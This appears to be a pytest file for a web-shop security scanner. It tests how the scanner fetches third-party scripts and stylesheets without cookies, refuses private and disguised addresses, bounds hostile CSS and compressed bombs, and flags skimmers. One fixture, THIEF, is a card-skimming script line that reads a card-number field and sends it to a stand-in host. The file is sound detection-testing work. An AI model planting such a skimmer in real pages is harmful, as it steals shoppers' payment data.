"""Scripts and styles of other hosts, fetched from real servers on loopback: once, without cookies, and only where it is allowed."""

from __future__ import annotations

import asyncio
import base64
import gzip
import hashlib
import ssl
from collections.abc import AsyncIterator, Callable, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import trustme

from scanner.engine.scan import Order, scan
from scanner.evidence import FileKind, LoadedFiles, Page, PageKind, Pages, Resource, Script
from scanner.evidence.codec import decode, encode, known_classes
from scanner.gatherers.crawl import loaded_files
from scanner.gatherers.crawl.arrival import PAGES
from scanner.gatherers.crawl.html import extract, style_loads
from scanner.gatherers.http import third_party
from scanner.gatherers.http.fetcher import Fetcher
from scanner.gatherers.http.third_party import ForeignHosts
from scanner.gatherers.net.dns import Dns
from scanner.gatherers.net.pace import Paces
from scanner.gatherers.net.resolver import NoSuchName
from scanner.rules.verdicts import Found, Inconclusive, Passed
from scanner.scope.budget import Budget
from scanner.scope.target import Target
from scanner.settings.options import ScanOptions
from scanner.testing import HOST, NOW, ORIGIN, page, pages
from scanner.text.clock import StoppedClock
from tests.loopback import request_head, response, serving
from tests.scanning import CLOSED, catalogue, no_names

CDN = "cdn.scripts.example"
BODY = b"function library() { return 1 }\n" * 50
SHARED = "Access-Control-Allow-Origin: *\r\nContent-Type: text/javascript\r\n"


@dataclass
class Server:
    """What a host of others answers, and what it was asked."""

    answers: dict[str, bytes] = field(default_factory=dict)
    heads: list[str] = field(default_factory=list)

    @property
    def paths(self) -> list[str]:
        return [head.split(" ", 2)[1] for head in self.heads]

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            head = (await reader.readuntil(b"\r\n\r\n")).decode()
            self.heads.append(head)
            writer.write(self.answers.get(head.split(" ", 2)[1], response(b"", "404 Not Found")))
            await writer.drain()


@pytest.fixture
def authority(tmp_path: Path) -> trustme.CA:
    made = trustme.CA()
    made.cert_pem.write_to_path(tmp_path / "ca.pem")
    return made


def secured(authority: trustme.CA, *names: str) -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert(*names).configure_cert(context)
    return context


@asynccontextmanager
async def tools(
    target: Target,
    *,
    ca_file: Path | None = None,
    resolve: Callable[[str], tuple[str, ...]] | None = None,
    seconds: float = 30,
) -> AsyncIterator[tuple[Fetcher, ForeignHosts]]:
    async def asked(host: str) -> tuple[str, ...]:
        if resolve is None:
            raise NoSuchName(f"The name {host} has no address.")
        return resolve(host)

    async with Fetcher(
        target, budget=Budget(400, catalogue().shares), seconds=seconds, resolve=asked, paces=Paces(500)
    ) as fetcher:
        foreign = ForeignHosts(fetcher, asked, Dns(()), ca_file)
        yield fetcher, foreign
        await foreign.aclose()


def shop(port: int, *names: str, http: int = 1) -> Target:
    resolve = dict.fromkeys((HOST, *names), ("127.0.0.1",))
    return Target.of(f"{ORIGIN}/", ports={"https": port, "http": http}, resolve=resolve, allow_private=True)


async def gather(target: Target, crawl: Pages, **more: object) -> LoadedFiles:
    async with tools(target, **more) as (fetcher, foreign):
        return await loaded_files.loaded_files(fetcher, foreign, target, crawl, StoppedClock(NOW))


def loading(*addresses: str, kind: PageKind = PageKind.HOME, path: str = "/") -> Page:
    return page(path, kind=kind, scripts=[Script(address) for address in addresses])


async def test_a_file_is_asked_for_once_without_cookies_and_its_checksums_are_those_of_the_unpacked_body(
    authority: trustme.CA, tmp_path: Path
) -> None:
    cookie = SHARED + "Set-Cookie: tracked=1\r\n"
    server = Server({
        "/lib@1.2.3.js": response(gzip.compress(BODY), headers=cookie + "Content-Encoding: gzip\r\n"),
        "/second.js": response(BODY, headers="Access-Control-Allow-Origin: https://other.example\r\n"),
    })  # fmt: skip
    first, second = f"https://{CDN}/lib@1.2.3.js", f"https://{CDN}/second.js?day=1"
    crawl = pages(loading(first, second), loading(first, f"https://{CDN}/second.js?day=2", path="/roses"))
    server.answers["/second.js?day=1"] = server.answers["/second.js"]
    async with serving(server.handle, ssl=secured(authority, CDN)) as port:
        found = await gather(shop(port, CDN), crawl, ca_file=tmp_path / "ca.pem")
    assert sorted(server.paths) == ["/lib@1.2.3.js", "/second.js?day=1"]
    assert all("cookie:" not in head.lower() for head in server.heads)
    assert all(f"origin: {ORIGIN}\r\n" in head.lower() for head in server.heads)
    file = found.file(first)
    assert file is not None
    assert file.digest("sha384") == "sha384-" + base64.b64encode(hashlib.sha384(BODY).digest()).decode()
    assert [one.partition("-")[0] for one in file.digests] == ["sha256", "sha384", "sha512"]
    assert (file.shared, file.domain, file.kind, file.text) == (True, "scripts.example", FileKind.SCRIPT, BODY.decode())
    other = found.file(second)
    assert other is not None
    assert not other.shared
    assert decode(encode(found), known_classes([LoadedFiles])) == found


async def test_a_cookie_of_others_is_never_sent_back() -> None:
    server = Server({"/a.js": response(BODY, headers="Set-Cookie: tracked=1; Path=/\r\n"), "/b.js": response(BODY)})
    async with serving(server.handle) as port, tools(shop(1, CDN, http=port)) as (_, foreign):
        for name in ("a.js", "b.js", "a.js"):
            await foreign.get(f"http://{CDN}/{name}")
    assert len(server.heads) == 3
    assert all("cookie:" not in head.lower() for head in server.heads)


async def test_what_came_by_http_or_not_whole_has_no_checksum(
    authority: trustme.CA, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(third_party, "FILE_BYTES", 500)
    server = Server({"/a.js": response(BODY[:400], headers=SHARED), "/big.js": response(BODY, headers=SHARED)})
    crawl = pages(loading(f"http://{CDN}/a.js", f"https://{CDN}/big.js"))
    async with serving(server.handle) as http, serving(server.handle, ssl=secured(authority, CDN)) as https:
        found = await gather(shop(https, CDN, http=http), crawl, ca_file=tmp_path / "ca.pem")
    assert [(file.address, file.digests) for file in found.files] == [(f"http://{CDN}/a.js", ()), (f"https://{CDN}/big.js", ())]


async def test_a_certificate_that_does_not_hold(authority: trustme.CA, tmp_path: Path) -> None:
    server = Server({"/a.js": response(BODY, headers=SHARED)})
    for certified, ca_file in (("other.example", tmp_path / "ca.pem"), (CDN, None)):
        async with serving(server.handle, ssl=secured(authority, certified)) as port:
            found = await gather(shop(port, CDN), pages(loading(f"https://{CDN}/a.js")), ca_file=ca_file)
        assert found.files == ()
        assert [one.examined for one in found.unread] == [False]
    assert server.heads == []


@pytest.mark.parametrize(
    ("answer", "examined"),
    [
        (response(b"", "404 Not Found"), True),
        (response(b"", "410 Gone"), True),
        (response(b"", "302 Found", f"Location: http://{CDN}/elsewhere.js\r\n"), True),
        (response(b"", "403 Forbidden"), False),
        (response(b"", "429 Too Many Requests", "Retry-After: 1\r\n"), False),
        (response(b"", "503 Service Unavailable"), False),
        (b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\nhalf", False),
        (b"nonsense\r\n\r\n", False),
    ],
)
async def test_no_file_is_no_knowledge(answer: bytes, examined: bool) -> None:
    asked: list[str] = []

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append((await request_head(reader)).split(b" ", 2)[1].decode())
        writer.write(answer)
        await writer.drain()

    async with serving(handle) as port:
        found = await gather(shop(1, CDN, http=port), pages(loading(f"http://{CDN}/a.js")))
    assert found.files == ()
    assert [one.examined for one in found.unread] == [examined]
    assert asked == ["/a.js"], "asked again, or a redirect was followed"


async def test_a_host_that_never_answers_ends_with_the_scan() -> None:
    async def handle(reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
        await reader.read()

    async with serving(handle) as port:
        found = await gather(shop(1, CDN, http=port), pages(loading(f"http://{CDN}/a.js")), seconds=1.0)
    assert [(one.address, one.examined) for one in found.unread] == [(f"http://{CDN}/a.js", False)]


async def test_slow_hosts_take_no_connection_from_the_shop() -> None:
    """Eight files that never come, and the shop's own page beside them."""

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        if f"host: {HOST}\r\n".encode() in head.lower():
            writer.write(response(b"the shop"))
            await writer.drain()
        await reader.read()

    async with serving(handle) as port:
        target = shop(1, CDN, http=port)
        async with tools(target) as (fetcher, foreign):
            slow = [asyncio.create_task(foreign.get(f"http://{CDN}/{number}.js")) for number in range(8)]
            await asyncio.sleep(0.2)
            assert (await fetcher.get(f"http://{HOST}/", PAGES, seconds=2)).text == "the shop"
            fetcher.stop()
            await asyncio.gather(*slow, return_exceptions=True)


async def test_a_bomb_is_cut() -> None:
    bomb = gzip.compress(b" " * 50_000_000)
    server = Server({"/a.js": response(bomb, headers="Content-Encoding: gzip\r\n" + SHARED)})
    async with serving(server.handle) as port:
        found = await gather(shop(1, CDN, http=port), pages(loading(f"http://{CDN}/a.js")))
    (file,) = found.files
    assert len(file.text) <= 100_001
    assert file.digests == ()


@pytest.mark.parametrize("address", ["127.0.0.1", "10.0.0.1", "192.168.1.1", "169.254.169.254", "::1", "fe80::1", "::ffff:127.0.0.1", "0.0.0.0"])  # fmt: skip
async def test_a_page_cannot_send_us_into_a_private_network(address: str) -> None:
    server = Server({"/a.js": response(BODY)})
    literal = f"[{address}]" if ":" in address else address
    async with serving(server.handle) as port:
        public = Target.of(f"{ORIGIN}/")
        crawl = pages(
            loading(f"http://inside.example:{port}/a.js", f"http://{literal}:{port}/a.js", "http://inside.example:8080/a.js")
        )
        found = await gather(public, crawl, resolve=lambda _host: (address,))
    assert server.heads == []
    assert found.files == ()
    assert all(one.examined for one in found.unread)


STRANGE = (
    "http://user:secret@cdn.scripts.example/a.js", "http://[::1]/a.js", "http://[::ffff:127.0.0.1]:80/a.js", "http://0x7f000001/a.js",
    "http://127.1/a.js", "http://2130706433/a.js", "http://localhost/a.js", "http://cdn/a.js", "http://cdn.scripts.example./a.js",
    "http://" + "a" * 63 + ".example/a.js", "http://" + "a." * 120 + "example/a.js", "https://xn--bcher-kva.example/a.js",
    "http://cdn.scripts.example:0/a.js", "http://under_score.example/a.js", "http://[broken/a.js", "http:///a.js", "nonsense",
)  # fmt: skip


async def test_strange_addresses_lead_nowhere() -> None:
    from scanner.gatherers.names.script_hosts import script_hosts

    server = Server({"/a.js": response(BODY)})
    written = "".join(f'<script src="{address}"></script>' for address in STRANGE)
    crawl = pages(extract(f"<title>Shop</title>{written}", f"{ORIGIN}/", 200, ()))
    assert len(crawl.home.scripts) > 10
    async with serving(server.handle) as port:
        target = Target.of(f"{ORIGIN}/", ports={"http": port, "https": port})
        async with tools(target, resolve=lambda _host: ("127.0.0.1",)) as (fetcher, foreign):
            found = await loaded_files.loaded_files(fetcher, foreign, target, crawl, StoppedClock(NOW))
            hosts = await script_hosts(foreign, target, crawl, StoppedClock(NOW))
    assert (found.files, server.heads) == ((), [])
    assert all(one.examined for one in found.unread)
    assert not any("secret" in text for one in found.unread for text in (one.address, one.because))
    assert all(not one.domain or one.domain.endswith("example") for one in hosts.hosts)


async def test_only_ports_that_carry_web_sites() -> None:
    crawl = pages(loading("http://mail.example:25/a.js", "http://shell.example:22/a.js"))
    found = await gather(Target.of(f"{ORIGIN}/"), crawl, resolve=lambda _host: ("93.184.215.14",))
    assert [one.because for one in found.unread] == [
        "Port 25 of mail.example is none for web sites.",
        "Port 22 of shell.example is none for web sites.",
    ]


async def test_with_a_shop_in_a_private_place_nobody_outside_is_asked() -> None:
    looked_up: list[str] = []

    def anywhere(host: str) -> tuple[str, ...]:
        looked_up.append(host)
        return ("198.51.100.7",)

    crawl = pages(loading(f"https://{CDN}/a.js", "http://93.184.215.14/a.js"))
    found = await gather(shop(1), crawl, resolve=anywhere)
    assert looked_up == []
    assert found.left_out == ("http://93.184.215.14/a.js", f"https://{CDN}/a.js")
    assert (found.files, found.unread) == ((), ())


async def test_at_most_twenty_files_those_of_the_checkout_first() -> None:
    server = Server()
    many = [f"http://{CDN}/{number:02}.js" for number in range(30)]
    crawl = pages(loading(*many), loading(f"http://{CDN}/pay.js", kind=PageKind.CHECKOUT, path="/checkout"))
    async with serving(server.handle) as port:
        found = await gather(shop(1, CDN, http=port), crawl)
    assert len(server.paths) == 20
    assert "/pay.js" in server.paths
    assert len(found.left_out) == 11


async def test_the_shops_own_styles_and_what_they_import() -> None:
    own = Server({
        "/style.css": response(b'@import "sub/more.css"; @import url(http://fonts.example/css); @font-face { src: url("f.woff2") }'),
        "/sub/more.css": response(b".a { background: url(../pictures/a.png) }"),
        "/css": response(b"@font-face { src: url(//files.example/font) }"),
    })  # fmt: skip
    linked = page(
        "http://petalandstem.example/", resources=[Resource("link", "href", f"http://{HOST}/style.css", rel="stylesheet")]
    )
    async with serving(own.handle) as port:
        target = Target.of(f"http://{HOST}/", ports={"http": port}, resolve=dict.fromkeys((HOST, "fonts.example"), ("127.0.0.1",)), allow_private=True)  # fmt: skip
        found = await gather(target, pages(linked))
    assert sorted(own.paths) == ["/css", "/style.css", "/sub/more.css"]
    assert {(load.attribute, load.address) for file in found.files for load in file.loads} == {
        ("import", f"http://{HOST}/sub/more.css"),
        ("import", "http://fonts.example/css"),
        ("font", f"http://{HOST}/f.woff2"),
        ("url", f"http://{HOST}/pictures/a.png"),
        ("font", "http://files.example/font"),
    }


OURS = [f"http://{HOST}/js/{number}.js" for number in range(9)]


async def test_the_shops_own_scripts_are_read_where_customers_type() -> None:
    server = Server({"/js/0.js": response(BODY), "/js/1.js": response(b"", "503 Service Unavailable")})
    crawl = pages(
        page("/", scripts=[Script(f"http://{HOST}/js/slider.js")]),
        loading(*OURS[:2], f"http://{HOST}/index.php?route=script", f"{OURS[0]}?v=2", kind=PageKind.LOGIN, path="/login"),
    )
    async with serving(server.handle) as port:
        target = Target.of(f"http://{HOST}/", ports={"http": port}, resolve={HOST: ("127.0.0.1",)}, allow_private=True)
        found = await gather(target, crawl)
    assert sorted(dict.fromkeys(server.paths)) == ["/js/0.js", "/js/1.js"]
    assert [(file.address, file.kind, file.text) for file in found.files] == [(OURS[0], FileKind.SCRIPT, BODY.decode())]
    assert list(found.owed) == [OURS[1]]
    assert decode(encode(found), known_classes([LoadedFiles])) == found


async def test_of_many_scripts_six_and_of_the_home_page_where_no_other_is_known() -> None:
    server = Server({f"/js/{number}.js": response(BODY) for number in range(9)})
    async with serving(server.handle) as port:
        target = Target.of(f"http://{HOST}/", ports={"http": port}, resolve={HOST: ("127.0.0.1",)}, allow_private=True)
        found = await gather(
            target, pages(loading(*OURS), loading(f"http://{HOST}/js/roses.js", kind=PageKind.OTHER, path="/roses"))
        )
    assert sorted(server.paths) == [f"/js/{number}.js" for number in range(6)]
    assert found.left_out == tuple(OURS[6:])


@pytest.mark.parametrize(
    ("style", "loads"),
    [
        ("a{b:url(x.png)}", [("url", "x.png")]),
        ("/* url(no.png) */ a{b:url('x.png')} /* url(never", [("url", "x.png")]),
        ("@IMPORT 'x.css' screen; @import url( \"y.css\" );", [("import", "x.css"), ("import", "y.css")]),
        ("@font-face{font-family:A;src:url(a.woff2) format('woff2'),url(a.woff)} b{c:url(d.svg)}", [("font", "a.woff2"), ("font", "a.woff"), ("url", "d.svg")]),
        ("a{b:url(data:image/png;base64,AAAA)}", []),
        ("a{b:url()}", []),
    ],
)  # fmt: skip
def test_what_a_style_loads(style: str, loads: Sequence[tuple[str, str]]) -> None:
    base = "https://cdn.example/css/"
    assert [(one.attribute, one.address) for one in style_loads(style, base)] == [(kind, base + name) for kind, name in loads]


@pytest.mark.parametrize(
    "nasty", ["url(" * 250_000, "/*" * 500_000, "@import '" * 110_000, "@font-face{" * 90_000 + "url(a)", "url(a)" * 160_000]
)
def test_a_hostile_style_is_bounded(nasty: str) -> None:
    assert len(style_loads(nasty, "https://cdn.example/")) <= 2_000


THIEF = "var n=document.getElementById('cc_number').value;new Image().src='https://stats.thief.example/i.gif?'+btoa(n)"


@pytest.mark.parametrize(
    ("answer", "verdict"),
    [
        (response(BODY + THIEF.encode(), headers=SHARED), Found),
        (response(BODY, headers=SHARED), Passed),
        (response(b"", "503 Service Unavailable"), Inconclusive),
    ],
)
async def test_a_whole_scan_reads_others_scripts(answer: bytes, verdict: type[Found | Inconclusive | Passed]) -> None:
    home = f'<title>Shop</title><a href="/roses">Roses</a><script src="http://{CDN}/w.js"></script>'.encode()
    html = "Content-Type: text/html\r\n"

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            head = (await request_head(reader)).decode().lower()
            if f"host: {CDN}" in head:
                writer.write(answer)
            elif head.startswith("get / "):
                writer.write(response(home, headers=html))
            else:
                writer.write(
                    response(b"<title>Roses</title>", headers=html) if "/roses" in head else response(b"", "404 Not Found")
                )
            await writer.drain()

    async with serving(handle) as port:
        target = Target.of(
            f"http://{HOST}/",
            ports={**CLOSED, "http": port},
            resolve=dict.fromkeys((HOST, CDN), ("127.0.0.1",)),
            allow_private=True,
        )
        loaded = catalogue()
        order = Order(target, loaded.chosen(["skimmer-indicator"]), ScanOptions(rate=1000))
        result = (await scan(order, loaded, resolve=no_names)).result
    (judged,) = result.judged
    assert isinstance(judged.verdict, verdict)
    assert [one.finding.subject for one in result.findings] == ([f"http://{CDN}/w.js"] if verdict is Found else [])
    # What could not be read this time is not called fixed: its page does not count as examined.
    assert ("/" in judged.verdict.examined) is (b"503" not in answer)
